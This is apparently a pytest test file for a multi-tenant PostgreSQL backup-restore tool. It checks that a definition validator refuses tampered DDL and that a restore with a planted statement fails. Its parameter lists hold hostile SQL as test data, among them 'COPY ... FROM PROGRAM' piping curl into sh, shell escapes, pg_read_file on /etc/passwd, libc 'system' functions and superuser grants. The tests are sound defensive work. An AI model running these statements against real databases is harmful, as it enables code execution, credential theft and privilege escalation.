"""A tampered definition is refused before the server sees it; what passes can do what its tenant could."""

from collections.abc import Callable, Iterable
from pathlib import Path

import psycopg
import pytest

from tenant_ops.backups import BackupRecord, execute_restore, plan_restore, writing
from tenant_ops.backups.crypto import DamagedBackup
from tenant_ops.backups.ddl import Statement, encode_statements, is_definition, names_for
from tenant_ops.backups.snapshot import tenant_names
from tenant_ops.platform.errors import OperationFailed
from tenant_ops.tenants import Fleet, Tenant
from tenant_ops_tests.backups.conftest import run_script as run_everything
from tenant_ops_tests.backups.conftest import songs
from tenant_ops_tests.backups.test_definitions import read, run_script


@pytest.mark.parametrize(
    "statement",
    [
        "RESET ROLE",
        "SET ROLE postgres",
        "DO $$ BEGIN END $$",
        "COPY t_x.users TO PROGRAM 'sh'",
        "COPY t_x.users FROM PROGRAM 'curl example.org | sh'",
        "\\! sh",
        "\\copy t_x.users from program 'sh'",
        "DROP SCHEMA t_x",
        "DROP TABLE t_y.users",
        "SELECT pg_read_file('/etc/passwd')",
        "INSERT INTO t_x.users VALUES (1)",
        "TRUNCATE t_x.users",
        "CALL t_x.work()",
        " CREATE TABLE t_x.x ()",
        "/* */ CREATE TABLE t_x.x ()",
        "create table t_x.x ()",
        "CREATE TABLE t_y.x ()",
        "CREATE TABLE t_x2.x ()",
        'CREATE TABLE "t_x""".x ()',
        "CREATE TABLE public.x ()",
        "CREATE TABLE x ()",
        "CREATE TEMP TABLE t_x.x ()",
        "CREATE TABLE IF NOT EXISTS t_y.x ()",
        "CREATE SCHEMA t_x",
        "CREATE ROLE t_x",
        "CREATE USER MAPPING FOR t_x SERVER s",
        "CREATE DATABASE t_x",
        "CREATE EXTENSION t_x",
        "CREATE EVENT TRIGGER t_x ON ddl_command_end EXECUTE FUNCTION t_x.f()",
        "CREATE SERVER t_x FOREIGN DATA WRAPPER w",
        "CREATE FOREIGN TABLE t_x.x () SERVER s",
        "CREATE SUBSCRIPTION t_x CONNECTION '' PUBLICATION p",
        "CREATE PUBLICATION t_x FOR ALL TABLES",
        "CREATE TABLESPACE t_x LOCATION '/tmp'",
        "CREATE LANGUAGE t_x",
        "CREATE OPERATOR CLASS t_x.o FOR TYPE int USING btree AS STORAGE int",
        "CREATE INDEX i ON t_y.users (id)",
        'CREATE INDEX "i ON t_x." ON t_y.users (id)',
        "CREATE TRIGGER a AFTER INSERT ON t_y.users FOR EACH ROW EXECUTE FUNCTION t_x.f()",
        'CREATE TRIGGER a AFTER UPDATE OF "x ON t_x." ON t_y.users EXECUTE FUNCTION t_x.f()',
        "CREATE RULE r AS ON INSERT TO t_y.users DO INSTEAD NOTHING",
        "CREATE POLICY p ON t_y.users",
        "ALTER SYSTEM SET archive_command = 'sh'",
        "ALTER ROLE t_x SUPERUSER",
        "ALTER DATABASE postgres SET search_path = t_x",
        "ALTER SCHEMA t_y OWNER TO t_x",
        "ALTER TABLE t_y.users OWNER TO t_x_own",
        "ALTER EXTENSION vector SET SCHEMA t_x",
        "ALTER DEFAULT PRIVILEGES FOR ROLE postgres GRANT ALL ON TABLES TO t_x",
        "ALTER DEFAULT PRIVILEGES IN SCHEMA t_y GRANT ALL ON TABLES TO t_x",
        "GRANT postgres TO t_x_own",
        "GRANT t_y_own TO t_x_own WITH ADMIN OPTION",
        "GRANT SELECT ON TABLE t_y.users TO t_x_own",
        "GRANT SELECT ON ALL TABLES IN SCHEMA t_y TO t_x_own",
        "GRANT ALL ON DATABASE postgres TO t_x",
        "GRANT SET ON PARAMETER session_replication_role TO t_x",
        "GRANT USAGE ON SCHEMA t_y TO t_x_own",
        "REVOKE CONNECT ON DATABASE postgres FROM PUBLIC",
        "COMMENT ON ROLE t_x IS ''",
        "COMMENT ON DATABASE t_x IS ''",
        "COMMENT ON TABLE t_y.users IS ''",
        "SECURITY LABEL ON TABLE t_x.users IS ''",
        "LOCK TABLE t_x.users",
        "LOAD 'library'",
        "",
    ],
)
def test_what_no_definition_says_is_refused(statement: str) -> None:
    assert not is_definition(statement, "t_x")


def test_every_statement_of_every_kind_of_schema_is_one_a_definition_has(
    fleet: Fleet, tenant: Tenant
) -> None:
    for script in ("types_and_functions", "tables", "from_16", "from_17", "from_18"):
        run_script(fleet, tenant, script)
    run_everything(fleet, tenant, "everything.sql")
    own = tenant_names(tenant)
    roles = {what: name for what, name in own.items() if what not in ("schema", "stage")}
    names = names_for("t_beside", own["stage"], roles, final_schema=own["schema"])
    statements = read(fleet, tenant).statements
    assert [s for s in statements if not is_definition(s.render(names), "t_beside")] == []
    assert len({s.kind for s in statements}) > 30


@pytest.mark.parametrize(
    "statement",
    [
        "CREATE TABLE \"t_x\".a AS SELECT pg_catalog.pg_read_file('/etc/passwd') AS a",
        "CREATE TABLE t_x.a AS SELECT pg_catalog.lo_import('/etc/passwd')",
        "CREATE TABLE t_x.a (LIKE tenant_ops.credential INCLUDING ALL)",
        "CREATE MATERIALIZED VIEW t_x.a AS SELECT * FROM tenant_ops.credential",
        "CREATE MATERIALIZED VIEW t_x.a AS SELECT * FROM pg_catalog.pg_authid",
        "CREATE OR REPLACE FUNCTION t_x.a() RETURNS int LANGUAGE c AS 'libc', 'system'",
        "CREATE OR REPLACE FUNCTION t_x.a() RETURNS int LANGUAGE internal AS 'pg_backend_pid'",
        "ALTER TABLE t_x.users OWNER TO postgres",
        "ALTER TABLE t_x.users SET SCHEMA tenant_ops",
        "CREATE CAST (text AS integer) WITH INOUT",
        "CREATE TABLE t_x.a (b int); RESET ROLE",
    ],
)
def test_what_passes_runs_with_the_rights_of_the_tenant_and_fails(
    fleet: Fleet, tenant: Tenant, statement: str
) -> None:
    assert is_definition(statement, "t_x")
    text = statement.replace("t_x", tenant.schema_name)
    with (
        fleet.session(tenant) as connection,
        pytest.raises(psycopg.Error),
        connection.transaction(),
    ):
        connection.cursor(binary=True).execute(text.encode(), binary=True)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("statement", "refused"),
    [
        ("COPY plays FROM PROGRAM 'touch PROOF'", "no statement a definition has"),
        ("\\! touch PROOF", "no statement a definition has"),
        ("GRANT postgres TO OWNER", "no statement a definition has"),
        ("CREATE TABLE public.planted ()", "no statement a definition has"),
        (
            "CREATE TABLE \"NEW\".planted AS SELECT pg_catalog.pg_read_file('/etc/passwd')",
            "permission denied",
        ),
        (
            "CREATE OR REPLACE FUNCTION \"NEW\".f() RETURNS int LANGUAGE c AS 'libc', 'system'",
            "permission denied",
        ),
    ],
)
def test_a_plain_backup_with_a_statement_put_in_is_not_restored(
    fleet: Fleet,
    small_tenant: Tenant,
    take: Callable[..., BackupRecord],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    statement: str,
    refused: str,
) -> None:
    """The archive agrees with itself, as one does that whoever can write to the store has written."""
    text = statement.replace("PROOF", str(tmp_path / "proof")).replace("OWNER", small_tenant.role("owner"))
    before, named, after = text.partition("NEW")
    sql = (before, {"name": "schema"}, after) if named else text
    planted = Statement("pre", "table", "planted", sql)

    def with_planted(statements: Iterable[Statement]) -> bytes:
        return encode_statements([*statements, planted])

    with monkeypatch.context() as patch:
        patch.setattr(writing, "encode_statements", with_planted)
        backup = take(small_tenant, encryption=False)
    plan = plan_restore(fleet, backup, small_tenant.slug)
    with pytest.raises((DamagedBackup, OperationFailed), match=refused):
        execute_restore(fleet, plan)
    assert songs(fleet, small_tenant) == 100
    assert list(tmp_path.iterdir()) == []
    with fleet.control.transaction() as connection:
        assert connection.execute("SELECT to_regclass('public.planted')").fetchone() == (None,)
